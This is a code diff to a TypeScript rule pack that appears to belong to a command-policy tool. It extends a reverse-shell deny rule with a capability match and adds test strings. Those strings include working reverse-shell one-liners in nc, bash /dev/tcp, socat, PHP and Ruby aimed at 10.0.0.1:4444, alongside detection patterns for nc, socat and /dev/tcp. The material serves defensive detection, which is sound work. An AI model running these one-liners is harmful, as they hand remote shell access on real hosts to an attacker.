@@ -285,9 +285,24 @@ export const BASE: PackRule[] = [
       { op: ["exec"], program: ["nc", "ncat", "netcat"], flagsAll: [["e", "c", "exec", "sh-exec", "lua-exec"]] },
       { op: ["write", "read"], pathLike: ["/dev/tcp/*", "/dev/udp/*"] },
       { op: ["exec"], program: ["socat"], argvLike: ["*exec:*", "*system:*"] },
+      // by capability: inline code that opens a socket and spawns a shell, a listener serving a shell
+      { op: ["exec"], capsAny: ["revshell"] },
     ],
-    ["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socat tcp:1.2.3.4:80 exec:/bin/sh"],
-    ["nc -z example.com 443", "echo test > out.txt", "socat -V"],
+    [
+      "nc -e /bin/sh 10.0.0.1 4444",
+      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+      "socat tcp:1.2.3.4:80 exec:/bin/sh",
+      'php -r \'$s = fsockopen("10.0.0.1", 4444); exec("/bin/sh -i <&3 >&3 2>&3");\'',
+      'ruby -rsocket -e \'c = TCPSocket.new("10.0.0.1", 4444); $stdin.reopen(c); exec "/bin/sh -i"\'',
+      "ttyd -W bash",
+    ],
+    [
+      "nc -z example.com 443",
+      "echo test > out.txt",
+      "socat -V",
+      "python3 -c \"import socket; s = socket.create_connection(('example.com', 443)); s.close()\"",
+      "ttyd -i 127.0.0.1 -W htop",
+    ],
   ),
   r(
     "deny-system-dir-write",
